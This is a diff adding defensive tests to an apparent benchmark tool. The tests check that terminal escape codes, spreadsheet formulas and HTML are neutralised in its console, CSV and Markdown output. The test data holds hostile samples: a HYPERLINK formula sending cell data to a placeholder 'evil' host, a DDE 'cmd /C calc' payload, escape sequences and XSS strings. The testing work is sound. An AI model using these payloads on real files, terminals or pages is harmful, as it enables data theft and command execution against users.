@@ -3,6 +3,7 @@ reply neither break the console nor bloat the Markdown table."""
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -79,3 +80,110 @@ def test_the_artifact_shows_the_summaries_and_at_most_50_wrong_rows(tmp_path: Pa
     assert per_question.count("| q") == ARTIFACT_ROWS   # one table line per shown row
     assert "| q2 " in per_question and "| q1 " in per_question   # errored; unknown correctness
     assert "| q4 " not in per_question                             # right: not listed
+
+
+HOSTILE = ["\x1b[2J\x1b[Hcleared", "\x1b]0;pwned\x07title", "\x1b]8;;http://evil.example/\x1b\\"
+           "link\x1b]8;;\x1b\\", "\x1b[31mred\x1b[0m", "over\rwrite", "\u202eevil", "\x9b2Jc1"]
+
+
+def test_no_terminal_control_from_a_value_reaches_the_terminal(tmp_path: Path) -> None:
+    from benchcore.terminal_text import printable
+
+    assert [printable(text) for text in HOSTILE] == [
+        "cleared", "title", "link", "red", "over write", " evil", "c1"]
+    table = _table(HOSTILE)
+    table["uid"] = [f"q{i}\x1b[1m" for i in range(len(HOSTILE))]
+    table["model"] = "m\x1b]0;x\x07"
+    paths = write_results(table, tmp_path)
+    track = TrackSummary(paths={k: str(v) for k, v in paths.items()}, units=7, items=7,
+                         errors=1, overall_records=[{"model": "m\x1b]0;x\x07"}], markdown="",
+                         llm_calls={}, error_causes=[("HTTP 400: \x1b[2Jgone\r", 1)],
+                         notes=["note \x1b[5mblink"])
+    summary = RunSummary(run_id="r", run_dir=str(tmp_path), qa=track,
+                         regressions=["m\x1b[8m hidden"])
+    with console_module.console.capture() as capture:
+        console_module.print_run(summary)
+    out = capture.get()
+    assert not any(c in out for c in "\x1b\x07\r\x9b\u202e"), repr(out)
+    assert "cleared" in out and "1 × HTTP 400: gone" in out and "blink" in out
+
+
+def test_a_cli_error_holds_no_terminal_control(tmp_path: Path, capsys) -> None:
+    from nlp_dsg_benchmark.cli import main
+
+    bad = tmp_path / "bad.yaml"
+    bad.write_text('questions:\n  - uid: "q\\e]0;pwned\\a\\e[2J"\n    solution: "1"\n'
+                   "    correctness_comparator: {comparison_type: SLDP}\n")
+    graph = Path(__file__).resolve().parents[1] / "questions/demo/apartment_dsg.json"
+    assert main(["run", "--questions", str(bad), "--scene-graph", str(graph),
+                 "--model", "m", "--provider", "oracle"]) == 2
+    err = capsys.readouterr().err
+    assert "question q: field question: field required" in err
+    assert not any(c in err for c in "\x1b\x07"), repr(err)
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_raw(
+    tmp_path: Path,
+) -> None:
+    import csv
+
+    from benchcore.run_folder import QA_TABLE, read_table
+    from planeval.tables import write_table
+
+    answers = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)", "\tx",
+               "-3", "+0.5", "'=quoted", "plain"]
+    table = _table(answers)
+    table["tags"] = [["=cmd|' /C calc'!A0", "ok"]] * len(answers)
+    paths = write_results(table, tmp_path)
+    with paths["rows_csv"].open(newline="") as handle:
+        written = list(csv.DictReader(handle))
+    assert [row["answer"] for row in written] == [
+        '\'=HYPERLINK("http://evil/?"&A1,"x")', "'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx",
+        "-3", "+0.5", "''=quoted", "plain"]
+    for name in ("summary_csv", "by_tag_csv"):
+        text = paths[name].read_text()
+        assert "\n=" not in text and ",=" not in text
+    assert "'=cmd|' /C calc'!A0" in paths["by_tag_csv"].read_text()
+    read = read_table(tmp_path, QA_TABLE)
+    assert list(read["answer"]) == answers                      # raw again for the store
+    assert read["tags"][0] == ["=cmd|' /C calc'!A0", "ok"]
+    plan = write_table(pd.DataFrame({"model": ["@evil", "m"], "n": [1, 2]}), tmp_path / "p.csv")
+    assert "'@evil" in plan.read_text()
+
+
+def test_markdown_cells_hold_no_html_and_break_no_table(tmp_path: Path) -> None:
+    from reporting.document import Document, Section, Table
+    from reporting.markdown import render_markdown
+
+    table = _table(["<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"])
+    table["uid"] = ["q|1\n", "<b>q2</b>"]
+    table["model"] = "m|<script>"
+    table["tags"] = [["t|a\nb<i>"], ["ok"]]
+    paths = write_results(table, tmp_path)
+    markdown = paths["markdown"].read_text()
+    assert not re.search(r"(?<!\\)[<>]|(?<!\\)\]\(", markdown)      # all escaped
+    per_question = markdown.split("## Per question")[1]
+    rows = [line for line in per_question.splitlines() if line.startswith("|")]
+    assert len(rows) == 4 and all(row.count(" | ") == 7 for row in rows[2:])
+    document = Document("r\n# x", [("run", "a`b<br>")], [Section(
+        "QA", tables=[Table("t|<b>", pd.DataFrame({"model": ["m|<i>\nx"], "n": [1]}))],
+        alerts=["REGRESSION <img src=x>"])])
+    rendered = render_markdown(document)
+    assert not re.search(r"(?<!\\)<", rendered)
+    assert "| m\\|\\<i\\> x | 1 |" in rendered
+
+
+def test_a_tag_holding_a_semicolon_is_one_tag(tmp_path: Path) -> None:
+    from benchcore.run_folder import QA_TABLE, read_table
+    from dsgqa.results import summary_by_tag
+
+    table = _table(["1", "2"])
+    table["tags"] = [["a;b", "c"], ["c"]]
+    by_tag = summary_by_tag(table)
+    assert sorted(by_tag["tag"]) == ["a;b", "c"]
+    write_results(table, tmp_path)
+    read = read_table(tmp_path, QA_TABLE)
+    assert list(read["tags"]) == [["a;b", "c"], ["c"]]
+    assert sorted(summary_by_tag(read)["tag"]) == ["a;b", "c"]
+    legacy = read.assign(tags=["x;y", ""])                     # a run written before lists
+    assert sorted(summary_by_tag(legacy)["tag"]) == ["x", "y"]
